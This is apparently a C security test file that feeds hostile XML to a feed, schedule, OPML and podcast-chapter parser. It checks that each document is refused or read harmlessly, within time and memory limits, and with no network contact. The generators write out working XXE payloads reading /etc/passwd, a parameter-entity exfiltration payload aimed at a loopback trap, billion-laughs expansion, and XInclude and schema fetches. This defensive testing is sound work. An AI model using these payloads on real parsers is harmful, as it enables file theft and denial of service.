/* test_hostile_xml.c - XML that was written to hurt whoever reads it (craft.md P3): to the planet's reader and to those of
 * feeds, schedules, lists of feeds and chapters. Each document is refused or read for what it honestly says, costs a moment
 * and little memory, and reaches neither a file nor the network. DOCTYPEs aren't refused as such: RSS 0.91 has one. None is
 * fetched, and of the entities in it only plain, short ones are put in (xml_text.h).
 * SPDX-License-Identifier: MIT */
#include "collection_help.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <iconv.h>
#include <poll.h>
#include <sys/socket.h>

#include "tests/base/processor_time.h"
#include "transcripts/chapters.h"
#include "transcripts/planet_feed.h"

/* What a document may cost: as promised in a build as it is used; with AddressSanitizer, which keeps what was freed and
 * checks every access, several times that. */
#ifdef __SANITIZE_ADDRESS__
enum { MOST_US = 150000, MOST_KIB = 64 << 10 };
#else
enum { MOST_US = 10000, MOST_KIB = 4 << 10 };
#endif

static int trap, trap_port;

/* ---- the documents: what stands before the root element, and in it ---- */

static void repeat(struct buf *out, const char *text, int n)
{
	while (n-- > 0)
		buf_text(out, text);
}

static void file_entity(struct buf *prolog, struct buf *body)
{
	buf_text(prolog, "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>");
	buf_text(body, "<a b=\"&x;\">&x;</a>");
}

static void web_entity(struct buf *prolog, struct buf *body)
{
	buf_format(prolog, "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://127.0.0.1:%d/x\"><!ENTITY y PUBLIC \"p\" "
		"\"http://127.0.0.1:%d/y\">]>",
		trap_port, trap_port);
	buf_text(body, "&x;&y;");
}

static void parameter_entity(struct buf *prolog, struct buf *body)
{
	buf_format(prolog, "<!DOCTYPE r [<!ENTITY %% x SYSTEM \"http://127.0.0.1:%d/x.dtd\">%%x;<!ENTITY %% f SYSTEM "
		"\"file:///etc/passwd\">"
		"<!ENTITY %% all \"<!ENTITY send SYSTEM 'http://127.0.0.1:%d/?%%f;'>\">%%all;]>", trap_port, trap_port);
	buf_text(body, "&send;");
}

static void outside_type(struct buf *prolog, struct buf *body)
{
	buf_format(prolog, "<!DOCTYPE r PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" "
		"\"http://127.0.0.1:%d/rss-0.91.dtd\">", trap_port);
	buf_text(body, "caf&eacute; &outside;");
}

static void billion_laughs(struct buf *prolog, struct buf *body)
{
	buf_text(prolog, "<!DOCTYPE r [<!ENTITY l0 \"ha\">");
	for (int i = 1; i < 10; i++) {
		buf_format(prolog, "<!ENTITY l%d \"", i);
		for (int k = 0; k < 10; k++)
			buf_format(prolog, "&l%d;", i - 1);
		buf_text(prolog, "\">");
	}
	buf_text(prolog, "]>");
	buf_text(body, "<a b=\"&l9;\">&l9;</a>");
}

static void one_long_entity(struct buf *prolog, struct buf *body)
{
	buf_text(prolog, "<!DOCTYPE r [<!ENTITY long \"");
	repeat(prolog, "aaaaaaaaaa", 2000);
	buf_text(prolog, "\">]>");
	repeat(body, "&long;", 5000);
}

static void one_short_entity(struct buf *prolog, struct buf *body)
{
	buf_text(prolog, "<!DOCTYPE r [<!ENTITY s \"");
	repeat(prolog, "aaaaaaaaaa", 25);
	buf_text(prolog, "\">]>");
	repeat(body, "&s;", 50000);
}

static void many_entities(struct buf *prolog, struct buf *body)
{
	buf_text(prolog, "<!DOCTYPE r [");
	for (int i = 0; i < 1024; i++)
		buf_format(prolog, "<!ENTITY same_beginning_%04d \"\">", i);
	buf_text(prolog, "]>");
	repeat(body, "&same_beginning_1023;", 20000);
}

static void deep(struct buf *prolog, struct buf *body)
{
	(void)prolog;
	repeat(body, "<a>", 20000);
	repeat(body, "</a>", 20000);
}

static void deep_and_open(struct buf *prolog, struct buf *body)
{
	(void)prolog;
	repeat(body, "<item><description><a>", 5000);
}

static void included(struct buf *prolog, struct buf *body)
{
	buf_format(prolog, "<?xml-stylesheet type=\"text/xsl\" href=\"http://127.0.0.1:%d/s.xsl\"?><?xml-model "
		"href=\"http://127.0.0.1:%d/m.rng\"?>",
		trap_port, trap_port);
	buf_format(body, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
		"href=\"http://127.0.0.1:%d/i\"><xi:fallback>f</xi:fallback></xi:include>"
		"<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>"
		"<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://127.0.0.1:%d/ "
			"http://127.0.0.1:%d/s.xsd\"/>",
		trap_port, trap_port, trap_port);
}

static void many_sections(struct buf *prolog, struct buf *body)
{
	(void)prolog;
	repeat(body, "<![CDATA[x]]>", 8000);
}

static void many_attributes(struct buf *prolog, struct buf *body)
{
	(void)prolog;
	buf_text(body, "<a");
	for (int i = 0; i < 20000; i++)
		buf_format(body, " a%d=''", i);
	buf_text(body, "/>");
}

static void many_namespaces(struct buf *prolog, struct buf *body)
{
	(void)prolog;
	for (int i = 0; i < 2000; i++)
		buf_format(body, "<n%d:a xmlns:n%d='http://127.0.0.1:%d/%d'>", i, i, trap_port, i);
}

static void never_closed(struct buf *prolog, struct buf *body)
{
	(void)prolog;
	repeat(body, "<!-- <![CDATA[ <a b=\"", 5000);
}

static void too_large(struct buf *prolog, struct buf *body)
{
	(void)prolog;
	repeat(body, "0123456789abcdef", (PLANET_FEED_BYTES >> 4) + 1);
}

enum dress { AS_IT_IS, AS_UTF16, AS_UTF7 };

/* What isn't refused is read without the harm. */
static const struct hostile {
	const char *name;
	void (*write)(struct buf *prolog, struct buf *body);
	enum dress dress;
	bool is_refused;
} hostile[] = {
	{"an entity that is a file", file_entity, AS_IT_IS, false},
	{"entities from the network", web_entity, AS_IT_IS, false},
	{"parameter entities that send a file away", parameter_entity, AS_IT_IS, false},
	{"a document type from the network", outside_type, AS_IT_IS, false},
	{"a billion laughs", billion_laughs, AS_IT_IS, true},
	{"one long entity, many times", one_long_entity, AS_IT_IS, false},
	{"one short entity, many times", one_short_entity, AS_IT_IS, true},
	{"1,024 entities, 20,000 references", many_entities, AS_IT_IS, false},
	{"a billion laughs in UTF-16", billion_laughs, AS_UTF16, true},
	{"a billion laughs in UTF-7", billion_laughs, AS_UTF7, true},
	{"an entity that is a file, in UTF-16", file_entity, AS_UTF16, false},
	{"an entity from the network, in UTF-7", web_entity, AS_UTF7, false},
	{"20,000 elements, one inside the other", deep, AS_IT_IS, false},
	{"15,000 elements that never end", deep_and_open, AS_IT_IS, false},
	{"XInclude, style sheets, schemas", included, AS_IT_IS, false},
	{"8,000 CDATA sections", many_sections, AS_IT_IS, false},
	{"20,000 attributes", many_attributes, AS_IT_IS, true},
	{"2,000 namespaces, one inside the other", many_namespaces, AS_IT_IS, false},
	{"what is never closed", never_closed, AS_IT_IS, false},
};

/* ---- the readers ---- */

/* What was read, its texts one after the other, and whether it was refused. */
struct outcome {
	struct buf texts;
	bool is_refused;
};

static void say_collection(struct outcome *o, struct span bytes, const char *label)
{
	struct recorded faults;
	struct dialect_faults recording = recorder(&faults);
	struct collection *c = collection_read_as("x.xml", bytes, span_of(label), "it was said so", &recording);
	assert_non_null(c);
	assert_sound(c);
	o->is_refused = c->decline != NULL;
	if (c->show)
		buf_text(&o->texts, c->show->title);
	for (size_t i = 0; i < c->n_conferences; i++)
		buf_text(&o->texts, c->conferences[i].title);
	for (size_t i = 0; i < c->n_documents; i++)
		buf_format(&o->texts, "%s %s", c->documents[i]->title, c->documents[i]->notes);
	for (size_t i = 0; i < c->n_subscriptions; i++)
		buf_text(&o->texts, c->subscriptions[i].title);
	buf_span(&o->texts, buf_view(&faults.all));
	buf_finish(&faults.all);
	collection_destroy(c);
}

static void read_feed(struct outcome *o, struct span bytes) { say_collection(o, bytes, "feed"); }
static void read_schedule(struct outcome *o, struct span bytes) { say_collection(o, bytes, "schedule-xml"); }
static void read_list(struct outcome *o, struct span bytes) { say_collection(o, bytes, "opml"); }

static void read_planet(struct outcome *o, struct span bytes)
{
	struct recorded faults;
	struct dialect_faults recording = recorder(&faults);
	const struct planet_input in = {bytes, span_of("text/xml"), "https://example.org/feed", &recording};
	struct planet_feed *f;
	struct why why = {0};
	enum err e = planet_feed_read(&in, &f, &why);
	o->is_refused = e != OK;
	assert_true(e == OK || why.text[0]);
	if (e == OK) {
		buf_text(&o->texts, f->title);
		for (size_t i = 0; i < f->n_entries; i++)
			buf_format(&o->texts, "%s %s", f->entries[i].title, f->entries[i].content);
	}
	buf_span(&o->texts, buf_view(&faults.all));
	buf_finish(&faults.all);
	planet_feed_destroy(f);
}

static void read_chapters(struct outcome *o, struct span bytes)
{
	char reason[200];
	struct document *d = document_create(DOCUMENT_EPISODE);
	(void)chapters_detect(bytes, reason, sizeof reason);
	chapters_read(CHAPTERS_PSC, d, bytes, NULL); /* as if somebody had said that it is */
	o->is_refused = d->n_chapters == 0;
	for (size_t i = 0; i < d->n_chapters; i++)
		buf_text(&o->texts, d->chapters[i].title);
	document_destroy(d);
}

static const struct reader {
	const char *name, *head, *tail;
	void (*read)(struct outcome *o, struct span bytes);
} readers[] = {
	{"planet", "<rss version=\"2.0\"><channel><title>Honest ",
		"</title><item><guid>1</guid><title>One</title></item></channel></rss>", read_planet},
	{"feed", "<rss version=\"2.0\"><channel><title>Honest ",
		"</title><item><guid>1</guid><title>One</title></item></channel></rss>", read_feed},
	{"schedule", "<schedule><conference><title>Honest ",
		"</title><acronym>h1</acronym></conference><day index=\"1\" date=\"2026-05-01\"/></schedule>",
		read_schedule},
	{"list of feeds", "<opml version=\"2.0\"><body><outline text=\"Honest\" xmlUrl=\"https://example.org/\"/><outline "
		"text=\"x\">",
		"</outline></body></opml>", read_list},
	{"chapters", "<psc:chapters xmlns:psc=\"http://podlove.org/simple-chapters\" version=\"1.2\"><psc:chapter "
		"start=\"0\" title=\"Honest\"/>",
		"</psc:chapters>", read_chapters},
};

/* ---- what it costs ---- */

static long status_kib(const char *name)
{
	struct buf text = {0};
	long kib = -1;
	assert_int_equal(file_read("/proc/self/status", 1 << 16, &text, NULL), OK);
	const char *at = strstr(text.p, name);
	assert_non_null(at);
	sscanf(at + strlen(name), ": %ld", &kib);
	buf_finish(&text);
	return kib;
}

static void forget_peak(void)
{
	int fd = open("/proc/self/clear_refs", O_WRONLY | O_CLOEXEC);
	assert_true(fd >= 0 && write(fd, "5", 1) == 1);
	close(fd);
}

static void dress_up(struct buf *text, enum dress dress)
{
	if (dress == AS_IT_IS)
		return;
	struct buf out = {0};
	if (dress == AS_UTF16)
		buf_text(&out, "\xFF\xFE");
	else /* the declaration in ASCII, all markup behind it hidden */
		buf_text(&out, "<?xml version=\"1.0\" encoding=\"UTF-7\"?><!-- chapters -->");
	iconv_t cd = iconv_open(dress == AS_UTF16 ? "UTF-16LE" : "UTF-7", "UTF-8");
	assert_true(cd != (iconv_t)-1);
	char *from = text->p;
	size_t left = text->n, room = left * 8 + 64;
	buf_reserve(&out, room);
	char *to = out.p + out.n;
	size_t before = room;
	assert_int_equal(iconv(cd, &from, &left, &to, &room), 0);
	assert_int_equal(iconv(cd, NULL, NULL, &to, &room), 0);
	out.n += before - room;
	out.p[out.n] = '\0';
	iconv_close(cd);
	assert_true(dress == AS_UTF16 || !strstr(out.p + 60, "<!DOCTYPE"));
	buf_finish(text);
	*text = out;
}

static void write_document(const struct hostile *h, const struct reader *r, struct buf *text)
{
	struct buf prolog = {0}, body = {0};
	h->write(&prolog, &body);
	if (h->dress != AS_UTF7)
		buf_text(text, "<?xml version=\"1.0\"?>\n");
	buf_span(text, buf_view(&prolog));
	buf_text(text, r->head);
	buf_span(text, buf_view(&body));
	buf_text(text, r->tail);
	dress_up(text, h->dress);
	buf_finish(&prolog);
	buf_finish(&body);
}

static void each_document_costs_a_moment_and_reaches_nothing(void **state)
{
	int64_t slowest = 0;
	long largest = 0;
	(void)state;
	for (size_t i = 0; i < COUNT_OF(hostile); i++) {
		for (size_t k = 0; k < COUNT_OF(readers); k++) {
			const struct hostile *h = &hostile[i];
			const struct reader *r = &readers[k];
			struct buf text = {0};
			struct outcome o = {0};
			write_document(h, r, &text);
			forget_peak();
			long before = status_kib("VmRSS");
			int64_t took = INT64_MAX;
			/* Twice: other work on the processor slows one reading or the other. */
			for (int turn = 0; turn < 2; turn++) {
				buf_clear(&o.texts);
				int64_t start = processor_us();
				r->read(&o, buf_view(&text));
				int64_t now = processor_us() - start;
				took = now < took ? now : took;
			}
			long grown = status_kib("VmHWM") - before;
			slowest = took > slowest ? took : slowest;
			largest = grown > largest ? grown : largest;
			if (took > MOST_US || grown > MOST_KIB)
				print_error("%s to %s (%zu bytes): %lld us, %ld KiB\n", h->name, r->name, text.n, (long long)took, grown);
			if (o.is_refused != h->is_refused)
				fail_msg("%s to %s: %s", h->name, r->name, o.is_refused ? "refused" : "not refused");
			assert_true(took <= MOST_US && grown <= MOST_KIB);
			const char *texts = o.texts.p ? o.texts.p : "";
			assert_null(strstr(texts, "root:"));
			assert_null(strstr(texts, "haha"));
			if (!h->is_refused)
				assert_non_null(strstr(texts, "Honest"));
			buf_finish(&o.texts);
			buf_finish(&text);
		}
	}
	print_message("# %zu documents to %zu readers: slowest %lld us, most memory %ld KiB\n", COUNT_OF(hostile),
		COUNT_OF(readers),
		(long long)slowest, largest);
	struct pollfd wait = {.fd = trap, .events = POLLIN};
	assert_int_equal(poll(&wait, 1, 50), 0);
}

/* A file of the owner's may be long; a stranger's feed may not. */
static void a_feed_over_5_mib_is_refused_unread(void **state)
{
	static const struct hostile large = {"6 MiB", too_large, AS_IT_IS, true};
	struct buf text = {0};
	struct outcome o = {0};
	(void)state;
	write_document(&large, &readers[0], &text);
	forget_peak();
	long before = status_kib("VmRSS");
	int64_t start = processor_us();
	read_planet(&o, buf_view(&text));
	assert_true(processor_us() - start <= MOST_US && status_kib("VmHWM") - before <= MOST_KIB);
	assert_true(o.is_refused);
	buf_finish(&text);
	buf_finish(&o.texts);
}

static int set_trap(void **state)
{
	struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t size = sizeof address;
	(void)state;
	trap = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (trap < 0 || bind(trap, (struct sockaddr *)&address, sizeof address) || listen(trap, 8) ||
		getsockname(trap, (struct sockaddr *)&address, &size))
		return -1;
	trap_port = ntohs(address.sin_port);
	return 0;
}

static int close_trap(void **state)
{
	(void)state;
	return close(trap);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_document_costs_a_moment_and_reaches_nothing),
		cmocka_unit_test(a_feed_over_5_mib_is_refused_unread),
	};
	return cmocka_run_group_tests_name("hostile_xml", tests, set_trap, close_trap);
}
